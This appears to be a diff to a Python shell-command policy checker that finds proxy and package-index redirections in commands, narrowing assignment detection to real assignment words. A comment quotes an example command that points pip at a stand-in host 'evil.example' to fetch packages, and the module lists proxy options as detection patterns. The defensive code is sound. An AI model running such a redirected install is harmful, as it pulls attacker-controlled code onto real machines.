@@ -22,7 +22,9 @@ from collections.abc import Iterable, Mapping, Sequence
 
 from exomonad.policy.actions import Network
 from exomonad.policy.hosts import host_of
+from exomonad.policy.shell_escape import DECLARERS
 from exomonad.policy.shell_lex import Word
+from exomonad.policy.shell_parse import is_assignment
 
 __all__ = ["assigned_proxies", "option_routes", "proxy_words"]
 
@@ -30,8 +32,9 @@ __all__ = ["assigned_proxies", "option_routes", "proxy_words"]
 _PROXIES = frozenset({"--proxy", "--preproxy", "--doh-url", "--socks4", "--socks4a",
                       "--socks5", "--socks5-hostname", "--all-proxy", "--http-proxy",
                       "--https-proxy", "--ftp-proxy"})  # fmt: skip
-#: An assignment (``NAME=VALUE``, ``NAME+=VALUE``) anywhere in a word.
-_ASSIGNED = re.compile(r"(?<![A-Za-z0-9_])([A-Za-z_][A-Za-z0-9_]*)\+?=(.*)", re.S)
+#: An assignment word (``NAME=VALUE``, ``NAME+=VALUE``), and the commands that take them.
+_ASSIGNED = re.compile(r"([A-Za-z_][A-Za-z0-9_]*)\+?=(.*)", re.S)
+_SETTERS = frozenset({*DECLARERS, "env"})
 #: Variables naming where package managers fetch from (found reviewing: ``PIP_INDEX_URL=
 #: http://evil.example/simple pip install requests``, ``npm_config_registry=``, ``GOPROXY=``
 #: were allowed as plain installs); any variable whose name ends in ``proxy`` names a
@@ -120,8 +123,8 @@ def assigned_proxies(words: Iterable[Word]) -> list[Network]:
     []
     """
     out = []
-    for w in words:
-        found = _ASSIGNED.search(w.text)
+    for w in _assignments(list(words)):
+        found = _ASSIGNED.match(w.text)
         if found is None:
             continue
         name, value = found.group(1).lower(), found.group(2)
@@ -131,6 +134,17 @@ def assigned_proxies(words: Iterable[Word]) -> list[Network]:
             parts = [p for p in re.split(r"[\s,|]+", value) if p.lower() not in _NO_HOST]
             out += [_host(p, w.dynamic) for p in parts] or ([Network(None)] if w.dynamic else [])
     return _once(out)
+
+
+def _assignments(words: list[Word]) -> list[Word]:
+    """The assignments of a command's ``words``: before it, or given to ``export``,
+    ``declare``... or ``env`` (not an argument that merely reads like one: ``git commit -m
+    'set http_proxy=x'``)."""
+    i = 0
+    while i < len(words) and is_assignment(words[i]):
+        i += 1
+    given = words[i + 1 :] if i < len(words) and words[i].text in _SETTERS else []
+    return [*words[:i], *(w for w in given if is_assignment(w))]
 
 
 def _once(hosts: list[Network]) -> list[Network]:
